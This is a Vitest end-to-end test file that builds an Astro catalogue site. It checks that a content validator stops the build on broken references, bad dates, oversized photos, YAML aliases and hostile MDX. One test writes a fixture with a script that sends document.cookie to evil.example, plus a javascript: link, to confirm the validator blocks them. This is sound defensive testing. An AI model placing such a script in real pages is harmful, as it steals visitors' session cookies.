/**
 * End to end: a real `astro build` with the content check. A broken catalogue
 * must stop the build with the checker's report; the valid fixture must build,
 * and Astro's own content layer must accept every entry the checker accepted.
 *
 * The build runs in a scratch copy of the project (config, src/ with one
 * page, node_modules linked package by package), so Astro's caches, the
 * generated types and dist/ of the real project are never touched.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { copyFixture, type Catalogue } from '../helpers/fixture-copy';

const REPO = fileURLToPath(new URL('../..', import.meta.url));

/** Lists each collection's entry ids, so the test can compare them with the checker's counts. */
const PAGE = `---
import { getCollection } from 'astro:content';
const names = ['regions', 'clusters', 'associations', 'producers', 'products', 'news', 'categories', 'certificates', 'allergens', 'markets', 'productsTranslations'] as const;
const counts = await Promise.all(names.map(async (name) => \`\${name}=\${(await getCollection(name)).length}\`));
---
<html lang="en"><head><title>counts</title></head><body><p id="counts">{counts.join(' ')}</p></body></html>
`;

let project: string;
let cat: Catalogue;

beforeAll(() => {
  project = mkdtempSync(path.join(tmpdir(), 'etalase-build-'));
  for (const file of ['astro.config.mjs', 'tsconfig.json', 'package.json']) cpSync(path.join(REPO, file), path.join(project, file));
  cpSync(path.join(REPO, 'src'), path.join(project, 'src'), { recursive: true, filter: (src) => !src.startsWith(path.join(REPO, 'src', 'pages')) });
  mkdirSync(path.join(project, 'src', 'pages'), { recursive: true });
  writeFileSync(path.join(project, 'src', 'pages', 'index.astro'), PAGE);
  // Linking each package (not the folder) keeps node_modules/.astro and .vite caches in the scratch copy.
  mkdirSync(path.join(project, 'node_modules'));
  for (const name of readdirSync(path.join(REPO, 'node_modules'))) {
    if (!name.startsWith('.')) symlinkSync(path.join(REPO, 'node_modules', name), path.join(project, 'node_modules', name));
  }
  cat = copyFixture();
});

afterAll(() => {
  cat?.cleanup();
  if (project) rmSync(project, { recursive: true, force: true });
});

function build(outDir: string) {
  // Vitest's own variables would make the integration think it runs under Vitest.
  const env = Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith('VITEST') && key !== 'NODE_ENV' && key !== 'TEST'));
  const result = spawnSync(process.execPath, [path.join(REPO, 'node_modules/astro/bin/astro.mjs'), 'build', '--outDir', outDir], {
    cwd: project,
    env: { ...env, ETALASE_CONTENT_DIR: cat.root, ETALASE_TODAY: '2026-01-15', ASTRO_TELEMETRY_DISABLED: '1' },
    encoding: 'utf8',
    timeout: 240_000,
  });
  return { status: result.status, output: `${result.stdout}\n${result.stderr}` };
}

test('a broken entry fails the build with the file, the field and what was expected', () => {
  const original = cat.read('products/kemplang-goreng.md');
  cat.replace('products/kemplang-goreng.md', 'producer: kemplang-contoh', 'producer: kemplang-tidak-ada');
  try {
    const { status, output } = build(path.join(project, 'dist-broken'));
    expect(status, output).not.toBe(0);
    expect(output).toContain('The content has errors; the site is not built until they are fixed.');
    expect(output).toContain(`${cat.root}/products/kemplang-goreng.md\n  error   producer (line 3)`);
    expect(output).toContain(`no producer "kemplang-tidak-ada" exists: expected the slug (file name without .md) of an entry in ${cat.root}/producers/`);
    expect(output).toContain('Valid entries: regions 1/1, clusters 1/1, associations 1/1, producers 2/2, products 2/3, news 1/1');
    expect(output).not.toContain('Browser APIs');
  } finally {
    cat.write('products/kemplang-goreng.md', original);
  }
});

test('the valid fixture builds, and Astro loads every entry the checker counted', () => {
  const outDir = path.join(project, 'dist-valid');
  const { status, output } = build(outDir);
  expect(status, output).toBe(0);
  expect(output).toContain('Content check: no problems found.');
  const html = readFileSync(path.join(outDir, 'index.html'), 'utf8');
  expect(html).toContain(
    'regions=1 clusters=1 associations=1 producers=2 products=3 news=1 categories=2 certificates=3 allergens=2 markets=2 productsTranslations=3',
  );
});

test('hostile MDX stops the build with the file, the line and the fix, before Astro compiles it', () => {
  const original = cat.read('news/pameran-contoh.md');
  cat.remove('news/pameran-contoh.md');
  cat.write('news/pameran-contoh.mdx', `${original}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n\n[Prize](javascript:alert(1))\n\n{process.env.HOME}\n`);
  try {
    const { status, output } = build(path.join(project, 'dist-hostile'));
    expect(status, output).not.toBe(0);
    expect(output).toContain('The content has errors; the site is not built until they are fixed.');
    const lines = original.split('\n').length;
    expect(output).toContain(`${cat.root}/news/pameran-contoh.mdx\n  error   (text) (line ${lines + 1})`);
    expect(output).toContain('`<script>` is not allowed');
    expect(output).toContain('`javascript:` addresses are not allowed');
    expect(output).toContain('curly braces run code');
  } finally {
    cat.remove('news/pameran-contoh.mdx');
    cat.write('news/pameran-contoh.md', original);
  }
});

test('content that would be silently changed stops the build, and the report is the first and last thing printed (issue 15)', async () => {
  const files = ['producers/kemplang-contoh.md', 'products/kemplang-goreng.md', 'images/products/gula-semut.jpg'] as const;
  const originals = files.map((file) => readFileSync(path.join(cat.root, file)));
  const { default: sharp } = await import('sharp');
  // 1. day and month swapped; 2. a 45-megapixel original; 3. an alias; 4. an entry in a subfolder.
  cat.replace('producers/kemplang-contoh.md', 'validUntil: 2028-05-01', 'validUntil: 2028-31-12');
  await sharp({ create: { width: 9000, height: 5000, channels: 3, background: { r: 120, g: 80, b: 40 } } }).jpeg().toFile(path.join(cat.root, 'images/products/gula-semut.jpg'));
  cat.replace('products/kemplang-goreng.md', 'allergens: [fish, wheat]', 'allergens: &a [fish, wheat]\ntags: *a');
  cat.write('products/extra/kemplang-bakar.md', cat.read('products/kemplang-panggang.md'));
  try {
    const { status, output } = build(path.join(project, 'dist-changed'));
    expect(status, output).not.toBe(0);
    expect(output).toContain(`${cat.root}/producers/kemplang-contoh.md\n  error   certificates[2].validUntil (line 35)\n          2028-31-12 is not a real date (there is no month 31): expected a date written as YEAR-MONTH-DAY; did you mean 2028-12-31?`);
    expect(output).toMatch(/products\/gula-semut\.md\n {2}error {3}images\[0\]\.src \(line \d+\)\n {10}the photo \.\.\/images\/products\/gula-semut\.jpg is [\d.]+ MB \(9000 × 5000 px\): the limit is 15 MB and 40 megapixels/);
    expect(output).toContain('`*a` repeats a value marked `&a` elsewhere (a YAML alias): aliases are not allowed in content files');
    expect(output).toContain(`${cat.root}/products/extra/kemplang-bakar.md\n  error   (file name)\n          this entry is in a subfolder, so it is not published`);
    expect(output).toContain('perbaiki: Maksudnya 2028-12-31?');
    const lines = output.split('\n').filter((line) => line.trim());
    expect(lines[0]).toBe('The content has errors; the site is not built until they are fixed.');
    expect(lines.at(-1)).toMatch(/^Each problem above names the file, the field, what was expected and how to fix it\. .* Perbaiki lalu build lagi\.$/);
    expect(output).not.toContain('An unhandled error occurred');
    expect(output).not.toContain('ContentCheckError');
  } finally {
    files.forEach((file, i) => writeFileSync(path.join(cat.root, file), originals[i]!));
    rmSync(path.join(cat.root, 'products/extra'), { recursive: true, force: true });
  }
});

test("the build does not print the bundler's MODULE_LEVEL_DIRECTIVE warning about MDX entries (it is not about content), and passes on every other warning", async () => {
  const { default: config } = await import('../../astro.config.mjs');
  const onwarn = (config.vite?.build?.rollupOptions as { onwarn?: (warning: { code: string; message: string }, warn: (w: unknown) => void) => void } | undefined)?.onwarn;
  expect(onwarn, 'astro.config.mjs sets vite.build.rollupOptions.onwarn').toBeTypeOf('function');
  const shown: unknown[] = [];
  onwarn!({ code: 'MODULE_LEVEL_DIRECTIVE', message: 'Module level directives cause errors when bundled, "use astro:head-inject"' }, (w) => shown.push(w));
  expect(shown).toEqual([]);
  const other = { code: 'CIRCULAR_DEPENDENCY', message: 'Circular dependency' };
  onwarn!(other, (w) => shown.push(w));
  expect(shown).toEqual([other]);
});
